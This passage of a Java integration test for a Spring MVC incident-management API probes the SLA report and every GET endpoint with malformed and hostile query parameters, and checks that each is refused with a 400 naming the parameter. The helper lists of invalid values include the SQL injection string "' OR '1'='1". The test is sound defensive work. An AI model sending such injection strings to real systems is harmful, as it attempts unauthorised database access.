    if (value.chars().anyMatch(c -> Character.isSurrogate((char) c))) {
      StringBuilder out = new StringBuilder("\"");
      for (char c : value.toCharArray()) {
        out.append(c < 0x20 || Character.isSurrogate(c) || c == '"' || c == '\\'
            ? String.format("\\u%04x", (int) c) : String.valueOf(c));
      }
      return out.append('"').toString();
    }
    try {
      return new ObjectMapper().writeValueAsString(value);
    } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
      // Lone surrogates cannot be written by Jackson: escape them by hand.
      StringBuilder out = new StringBuilder("\"");
      for (char c : value.toCharArray()) {
        out.append(c < 0x20 || Character.isSurrogate(c) || c == '"' || c == '\\'
            ? String.format("\\u%04x", (int) c) : String.valueOf(c));
      }
      return out.append('"').toString();
    }
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static String escape(String value) {
    StringBuilder out = new StringBuilder();
    for (char c : value.toCharArray()) {
      out.append(c < 0x20 || c > 0x7e ? String.format("\\u%04x", (int) c) : String.valueOf(c));
    }
    return out.toString();
  }

  private static String abbreviate(String text) {
    return text == null ? "" : text.length() > 80 ? text.substring(0, 77) + "..." : text;
  }

  // ---- SLA report parameters (issue 18) -----------------------------------------------------------------------------

  /**
   * {@code GET /api/reports/sla} with hostile values in each query parameter: never a 5xx, always 400 problem+json
   * naming that parameter (the others valid), and nothing stored.
   */
  @TestFactory
  Stream<DynamicTest> theSlaReportRefusesHostileParametersNamingThem() {
    Map<String, String> valid = new LinkedHashMap<>();
    valid.put("sop", "incident");
    valid.put("from", "2026-10-01");
    valid.put("to", "2026-10-31");
    valid.put("groupBy", "priority");
    List<String> values = new ArrayList<>(INJECTIONS);
    values.addAll(ODD_UNICODE);
    values.addAll(IMPOSSIBLE_DATES);
    values.addAll(List.of("", " ", "1".repeat(500), "2026-10-01,2026-10-02", "PRIORITY", "incident "));
    return valid.keySet().stream().map(parameter -> DynamicTest.dynamicTest("GET /api/reports/sla?" + parameter, () -> {
      List<String> failures = new ArrayList<>();
      String rows = quietRowCounts();
      for (String value : values) {
        StringBuilder query = new StringBuilder();
        valid.forEach((name, good) -> query.append(query.length() == 0 ? "" : "&").append(name).append('=')
            .append(java.net.URLEncoder.encode(name.equals(parameter) ? value : good,
                StandardCharsets.UTF_8)));
        HttpResponse<String> response = http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port
                + "/api/reports/sla?" + query)).header("Authorization", "Basic " + Base64.getEncoder()
                .encodeToString(("manager:" + PASSWORD).getBytes(StandardCharsets.UTF_8)))
            .header("Accept", "application/json, application/problem+json").GET().build(), HttpResponse.BodyHandlers.ofString());
        String field = "";
        try {
          field = json.readTree(response.body()).path("field").asText("");
        } catch (java.io.IOException e) {
          // not JSON: reported below
        }
        boolean blankGroupBy = parameter.equals("groupBy") && value.isBlank();
        if (blankGroupBy ? response.statusCode() != 200 : response.statusCode() != 400 || !field.equals(parameter)) {
          failures.add(response.statusCode() + " naming '" + field + "' for " + parameter + "=" + escape(value));
        }
      }
      assertThat(rowCounts()).isEqualTo(rows);
      assertThat(failures).isEmpty();
    }));
  }

  // ---- query parameters of every GET endpoint -----------------------------------------------------------------------

  /**
   * Every {@code GET} endpoint under {@code /api} with query parameters (found in Spring MVC's mappings, so new ones are
   * covered without touching this test): a required parameter left out, a value that is not of the parameter's type (an
   * unknown status, a flag that is neither true nor false, text or a fraction for a number) and a page or size out of
   * range are each refused with 400 problem+json naming that parameter; never a 5xx, and nothing is stored.
   */
  @TestFactory
  Stream<DynamicTest> everyGetEndpointRefusesMalformedQueryParametersNamingThem() {
    Map<String, List<MethodParameter>> endpoints = new TreeMap<>();
    for (Map.Entry<RequestMappingInfo, HandlerMethod> mapping : mappings.getHandlerMethods().entrySet()) {
      if (!mapping.getKey().getMethodsCondition().getMethods().contains(RequestMethod.GET)) {
        continue;
      }
      List<MethodParameter> parameters = Stream.of(mapping.getValue().getMethodParameters())
          .filter(parameter -> parameter.hasParameterAnnotation(RequestParam.class)).toList();
      // Only optional text parameters (the SLA report's, probed below on their own): nothing that can be refused here.
      boolean refusable = parameters.stream().anyMatch(parameter -> isRequired(parameter)
          || !invalidValues(queryName(parameter), parameter.getParameterType()).isEmpty());
      mapping.getKey().getPatternValues().stream().filter(pattern -> pattern.startsWith("/api/") && refusable)
          .forEach(pattern -> endpoints.put(pattern, parameters));
    }
    assertThat(endpoints).as("GET endpoints with query parameters")
        .containsKeys("/api/incidents", "/api/changes", "/api/service-requests", "/api/audit", "/api/notifications");
    return endpoints.entrySet().stream().map(endpoint -> DynamicTest.dynamicTest("GET " + endpoint.getKey(),
        () -> probeQueryParameters(endpoint.getKey(), endpoint.getValue())));
  }

  private void probeQueryParameters(String pattern, List<MethodParameter> parameters) throws Exception {
    String path = pattern.replaceAll("\\{[^}]+}", "1");
    Map<String, String> required = new LinkedHashMap<>();
    parameters.stream().filter(HostileInputIntegrationTest::isRequired)
        .forEach(parameter -> required.put(queryName(parameter), validValue(parameter.getParameterType())));
    Map<Map<String, String>, String> probes = new LinkedHashMap<>();
    for (String name : required.keySet()) {
      Map<String, String> query = new LinkedHashMap<>(required);
      query.remove(name);
      probes.put(query, name);
    }
    for (MethodParameter parameter : parameters) {
      for (String bad : invalidValues(queryName(parameter), parameter.getParameterType())) {
        Map<String, String> query = new LinkedHashMap<>(required);
        query.put(queryName(parameter), bad);
        probes.put(query, queryName(parameter));
      }
    }
    List<String> failures = new ArrayList<>();
    String rows = quietRowCounts();
    for (Map.Entry<Map<String, String>, String> probe : probes.entrySet()) {
      String query = probe.getKey().entrySet().stream().map(p -> p.getKey() + "="
          + java.net.URLEncoder.encode(p.getValue(), StandardCharsets.UTF_8)).collect(java.util.stream.Collectors.joining("&"));
      HttpResponse<String> response = http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path
              + (query.isEmpty() ? "" : "?" + query))).header("Authorization", "Basic " + Base64.getEncoder()
              .encodeToString(("admin:" + PASSWORD).getBytes(StandardCharsets.UTF_8)))
          .header("Accept", "application/json, application/problem+json").GET().build(), HttpResponse.BodyHandlers.ofString());
      String type = response.headers().firstValue("Content-Type").orElse("");
      String field = "";
      try {
        field = json.readTree(response.body()).path("field").asText("");
      } catch (java.io.IOException e) {
        // not JSON: reported below
      }
      if (response.statusCode() != 400 || !type.startsWith("application/problem+json") || !field.equals(probe.getValue())) {
        failures.add(response.statusCode() + " " + type + " naming '" + field + "' instead of 400 naming '"
            + probe.getValue() + "' for ?" + query + ": " + abbreviate(response.body()));
      }
    }
    assertThat(rowCounts()).as("nothing stored").isEqualTo(rows);
    assertThat(failures).as("GET " + pattern).isEmpty();
  }

  private static boolean isRequired(MethodParameter parameter) {
    RequestParam annotation = parameter.getParameterAnnotation(RequestParam.class);
    return annotation.required() && ValueConstants.DEFAULT_NONE.equals(annotation.defaultValue())
        && !parameter.isOptional();
  }

  private static String queryName(MethodParameter parameter) {
    RequestParam annotation = parameter.getParameterAnnotation(RequestParam.class);
    if (!annotation.name().isEmpty()) {
      return annotation.name();
    }
    parameter.initParameterNameDiscovery(new DefaultParameterNameDiscoverer()); // as Spring MVC names it
    return parameter.getParameterName();
  }

  /** A value of the type that any endpoint takes, for the required parameters beside the one probed. */
  private static String validValue(Class<?> type) {
    if (type.isEnum()) {
      return ((Enum<?>) type.getEnumConstants()[0]).name();
    }
    if (type == Integer.class || type == int.class || type == Long.class || type == long.class) {
      return "1";
    }
    if (type == Boolean.class || type == boolean.class) {
      return "true";
    }
    return "x";
  }

  /** Values a parameter of this type can never take (none for text: any text is a value to look for). */
  private static List<String> invalidValues(String name, Class<?> type) {
    List<String> values = new ArrayList<>();
    if (type.isEnum()) {
      values.addAll(List.of("NOT_A_VALUE", "' OR '1'='1", "\uD83D", "open,closed", "1"));
    } else if (type == Integer.class || type == int.class || type == Long.class || type == long.class) {
      values.addAll(List.of("ten", "1.5", "99999999999999999999", "1e3", "' OR '1'='1"));
      if (name.equals("page")) {
        // -1, and a page whose first row lies beyond what a query's offset can hold (page x size > 2^31 - 1)
        values.addAll(List.of("-1", Integer.toString(Integer.MAX_VALUE)));
      }
      if (name.equals("size")) {
        values.addAll(List.of("0", "-5", Integer.toString(PageQuery.MAX_SIZE + 1)));
      }
    } else if (type == Boolean.class || type == boolean.class) {
      values.addAll(List.of("maybe", "2", "' OR '1'='1"));
    }
    return values;
  }
}
